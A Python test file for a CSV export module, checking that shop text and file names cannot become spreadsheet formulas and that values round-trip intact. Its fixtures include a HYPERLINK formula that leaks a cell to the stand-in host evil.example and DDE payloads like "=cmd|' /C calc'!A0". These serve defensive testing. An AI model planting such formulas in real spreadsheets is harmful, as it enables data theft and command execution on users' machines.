"""CSV exports: what spreadsheets make of them, and that nothing is lost on the way."""

from __future__ import annotations

import csv
import io
import random
import re

import pytest

from core.events import Match, MediaTagged, TaggedItem
from infra.report.cells import guarded, unguarded
from infra.report.export import COLUMNS, CsvExport, read_csv

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Tee")'


def tagged(filename: str = "look.jpg", x0: float = 1.0, **payload: object) -> MediaTagged:
    match = Match(product_id="7", score=0.9, point_id="p", payload=payload)
    item = TaggedItem(
        item_id="i",
        label="shirt",
        category="topwear",
        score=0.8,
        box=(x0, 2.0, 3.0, 4.0),
        crop_key="crops/1.png",
        frame_id="f",
        matches=[match],
    )
    return MediaTagged(
        media_id="0" * 32, revision=1, status="complete", filename=filename, items=[item]
    )


def exported(medium: MediaTagged, bom: bool = False) -> str:
    stream = io.StringIO(newline="")
    CsvExport(stream, bom).add(medium)
    return stream.getvalue()


def raw(text: str) -> dict[str, str]:
    """The only row, as any program reads it."""
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    return row


@pytest.mark.parametrize("column", ["title", "price", "product_type", "tags", "collections"])
@pytest.mark.parametrize(
    "text",
    [
        *(FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r", "\t", " =1", "-", "-cmd|' /C'!A0"),
        *("\uff1d1+1", "'=1"),
    ],
)
def test_no_text_of_a_shop_is_a_formula(column: str, text: str) -> None:
    written = exported(tagged(**{column: text}))

    assert raw(written)[column] == "'" + text
    (row,) = read_csv(io.StringIO(written, newline=""))
    assert row[column] == text


def test_no_file_name_is_a_formula() -> None:
    written = exported(tagged(filename="=cmd|' /C calc'!A0.jpg"))

    assert raw(written)["filename"].startswith("'=")
    (row,) = read_csv(io.StringIO(written, newline=""))
    assert row["filename"] == "=cmd|' /C calc'!A0.jpg"


@pytest.mark.parametrize("text", ["Tee;=1+1", "Tee; @SUM(A1)", "Tee\n=1+1", "\r\n=1", "Tee\r-1+1"])
def test_a_cell_that_is_cut_at_another_separator_begins_no_formula_either(text: str) -> None:
    written = raw(exported(tagged(title=text)))["title"]

    pieces = re.split("[;\\r\\n]", written)
    assert all(not piece.lstrip().startswith(("=", "+", "-", "@")) for piece in pieces)
    assert unguarded(written) == text


@pytest.mark.parametrize(
    "text",
    ["-5", "-5.00", "-1,299.00", "19.90", "\u20b9899", "Tee - red", "'80s tee", "O'Neill", ""],
)
def test_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    assert raw(exported(tagged(price=text)))["price"] == text


def test_our_own_negative_numbers_stay_numbers() -> None:
    row = raw(exported(tagged(x0=-2.5, price=-5, title=None)))

    assert (row["x0"], row["price"], row["title"]) == ("-2.5", "-5", "")


def test_whatever_a_shop_writes_is_read_back() -> None:
    rng = random.Random(0)
    alphabet = "=+-@\t\r\n ';,\"|5.a\u20b9\uff1d"
    for _ in range(2000):
        text = "".join(rng.choices(alphabet, k=rng.randint(0, 8)))
        (row,) = read_csv(io.StringIO(exported(tagged(title=text)), newline=""))
        assert row["title"] == text
        assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("bom", [False, True])
def test_a_byte_order_mark_is_there_on_demand_and_our_reader_passes_over_it(bom: bool) -> None:
    written = exported(tagged(title="\u20b9899"), bom)

    assert written.startswith("\ufeff") is bom
    (row,) = read_csv(io.StringIO(written, newline=""))
    assert tuple(row) == COLUMNS
    assert row["title"] == "\u20b9899"


def test_an_export_knows_whether_its_encoding_matters() -> None:
    export = CsvExport(io.StringIO(newline=""))

    export.add(tagged(title="Tee"))
    assert export.ascii
    export.add(tagged(title="T\u00e9"))
    assert not export.ascii
